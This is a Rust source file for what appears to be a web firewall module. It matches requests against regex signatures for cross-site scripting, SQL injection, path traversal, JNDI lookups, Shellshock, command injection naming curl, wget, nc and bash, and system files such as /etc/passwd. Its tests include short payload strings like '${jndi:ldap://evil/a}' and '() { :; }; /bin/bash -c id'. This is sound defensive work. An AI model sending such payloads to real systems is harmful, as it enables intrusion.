//! Signatures of attacks that no honest request carries, looked for in the decoded path, the query and a
//! few header fields. Few and certain: what may be honest is left to a rule set that can be tuned.

use std::sync::LazyLock;

use http::{HeaderMap, HeaderName, Uri, header};
use regex::bytes::RegexSet;

/// More of one text is not looked at: a path and a query are bounded before.
const BYTES_MAX: usize = 8 * 1024;

/// Fields that others log or interpret.
const FIELDS: [HeaderName; 4] =
    [header::USER_AGENT, header::REFERER, header::ACCEPT_LANGUAGE, header::CONTENT_TYPE];

/// Name and pattern, over text that was percent-decoded twice. Upper and lower case are the same.
const SIGNATURES: [(&str, &str); 20] = [
    ("script", r"<script[\s/>]"),
    ("event handler", r"<[a-z]+[^<>]*\son(error|load|mouseover|focus|click)\s*="),
    ("script address", r"(=|^)\s*(javascript|vbscript):"),
    ("union select", r"\bunion([\s(+]|/\*[^*]*\*/)+(all([\s(+]|/\*[^*]*\*/)+)?select\b"),
    ("always true", r#"['"]\s*(or|and)\s+['"]?(\d+|\w)['"]?\s*=\s*['"]?(\d+|\w)"#),
    ("stacked statement", r"['\d]\s*;\s*(drop|truncate|alter|insert|update|delete|shutdown)\s+\w"),
    ("database delay", r"\b(pg_sleep|sleep|benchmark)\s*\(\s*\d|waitfor\s+delay\s+['\x22]"),
    ("database catalogue", r"\binformation_schema\s*\.\s*(tables|columns)|\bxp_cmdshell\b"),
    (
        "system file",
        r"/etc/(passwd|shadow|hosts)\b|\bwin\.ini\b|\bboot\.ini\b|/proc/self/(environ|cmdline)",
    ),
    ("way up", r"(\.\.[/\\]){2}"),
    ("lookup", r"\$\{\s*(jndi|[^}]*\$\{[^}]*\})[^}]*:|\$\{\s*(lower|upper|env|sys):"),
    ("function in a variable", r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;"),
    (
        "command",
        r"[;|&`]\s*(cat|wget|curl|nc|bash|sh|id|whoami|uname|powershell)(\s+[-/\w]|\s*[;|&`]|$)",
    ),
    ("command substitution", r"\$\((cat|wget|curl|nc|bash|sh|id|whoami|uname)\b"),
    ("shell", r"/bin/(ba|z|c|k)?sh\b|\bcmd\.exe\b"),
    ("php", r"<\?php|php://(input|filter)|\ballow_url_include\b"),
    ("template", r"\{\{\s*\d+\s*\*\s*\d+\s*\}\}|#\{\s*\d+\s*\*\s*\d+\s*\}"),
    ("hidden folder", r"/\.(git|svn|hg)/"),
    ("external entity", r"<!(entity|doctype)\s[^>]*\b(system|public)\b"),
    ("line break", r"\r\n?\s*(set-cookie|location|content-length)\s*:"),
];

static SET: LazyLock<RegexSet> = LazyLock::new(|| {
    let patterns = SIGNATURES.iter().map(|(_, pattern)| format!("(?i-u){pattern}"));
    RegexSet::new(patterns).expect("the patterns are tested")
});

/// The name of the first signature a request carries.
pub(super) fn find(uri: &Uri, headers: &HeaderMap) -> Option<&'static str> {
    let address = uri.path_and_query().map_or_else(|| uri.path(), |address| address.as_str());
    in_text(address.as_bytes(), true).or_else(|| {
        let values = FIELDS.iter().flat_map(|name| headers.get_all(name));
        values.into_iter().find_map(|value| in_text(value.as_bytes(), false))
    })
}

fn in_text(text: &[u8], is_address: bool) -> Option<&'static str> {
    let text = text.get(..BYTES_MAX).unwrap_or(text);
    let found = if text.iter().any(|byte| matches!(byte, b'%' | b'+')) && is_address {
        SET.matches(&decoded(&decoded(text)))
    } else {
        SET.matches(text)
    };
    let index = found.iter().next()?;
    SIGNATURES.get(index).map(|(name, _)| *name)
}

/// Percent-decoded, `+` as a space; what is no encoding stays.
fn decoded(text: &[u8]) -> Vec<u8> {
    let spaced: Vec<u8> =
        text.iter().map(|byte| if *byte == b'+' { b' ' } else { *byte }).collect();
    percent_encoding::percent_decode(&spaced).collect()
}

#[cfg(test)]
mod tests {
    use http::HeaderValue;

    use super::*;

    fn found(address: &str) -> Option<&'static str> {
        find(&address.parse().expect("an address"), &HeaderMap::new())
    }

    #[test]
    fn each_signature_is_found_where_it_is_encoded_once_or_twice() {
        for (address, name) in [
            ("/s?q=%3Cscript%3Ealert(1)", "script"),
            ("/s?q=%253Cscript%253Ealert(1)", "script"),
            ("/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "event handler"),
            ("/s?u=javascript:alert(1)", "script address"),
            ("/s?q=1+UNION+ALL+SELECT+password", "union select"),
            ("/s?q=1%20union/**/select%202", "union select"),
            ("/s?q=%27%20OR%20%271%27=%271", "always true"),
            ("/s?q=1;DROP%20TABLE%20users", "stacked statement"),
            ("/s?q=pg_sleep(5)", "database delay"),
            ("/s?q=information_schema.tables", "database catalogue"),
            ("/s?f=/etc/passwd", "system file"),
            ("/s?f=..%2f..%2fx", "way up"),
            ("/s?q=$%7Bjndi:ldap://x%7D", "lookup"),
            ("/s?q=a;cat%20/x", "command"),
            ("/s?q=$(curl%20x)", "command substitution"),
            ("/s?q=/bin/sh", "shell"),
            ("/s?q=php://input", "php"),
            ("/s?q=%7B%7B7*7%7D%7D", "template"),
            ("/.git/config", "hidden folder"),
            ("/s?q=%3C!DOCTYPE%20a%20SYSTEM%20%22x%22%3E", "external entity"),
            ("/s?q=%0d%0aSet-Cookie:%20a=b", "line break"),
        ] {
            assert_eq!(found(address), Some(name), "{address}");
        }
    }

    #[test]
    fn header_fields_are_looked_at() {
        for (name, value) in [
            (header::USER_AGENT, "${jndi:ldap://evil/a}"),
            (header::USER_AGENT, "() { :; }; /bin/bash -c id"),
            (header::REFERER, "https://a/?q=<script>"),
        ] {
            let headers = HeaderMap::from_iter([(name, HeaderValue::from_static(value))]);
            assert!(find(&Uri::from_static("/"), &headers).is_some(), "{value}");
        }
    }

    #[test]
    fn honest_requests_pass() {
        for address in [
            "/",
            "/api/v1/tickets/7?sort=-created&fields=id,title",
            "/search?q=the+union+of+select+committees",
            "/search?q=O%27Neill+and+sons",
            "/search?q=rock+%26+roll+or+jazz",
            "/search?q=drop+table+lamp",
            "/go?next=https%3A%2F%2Fshop.example%2Fa%3Fb%3D1",
            "/a/b.c/d..e/..f",
            "/search?q=5%20%3C%206%20and%207%20%3E%206",
            "/Ticket/Display.html?id=12;Order=ASC|DESC",
            "/docs/sleep%20(medicine)",
            "/search?q=c%2B%2B+template+%7B%7Bname%7D%7D",
            "/cal?when=2026-11-25T10:00:00%2B01:00",
        ] {
            assert_eq!(found(address), None, "{address}");
        }
        let agent =
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0";
        let headers = HeaderMap::from_iter([
            (header::USER_AGENT, HeaderValue::from_static(agent)),
            (header::CONTENT_TYPE, HeaderValue::from_static("multipart/form-data; boundary=--x")),
        ]);
        assert_eq!(find(&Uri::from_static("/"), &headers), None);
    }
}
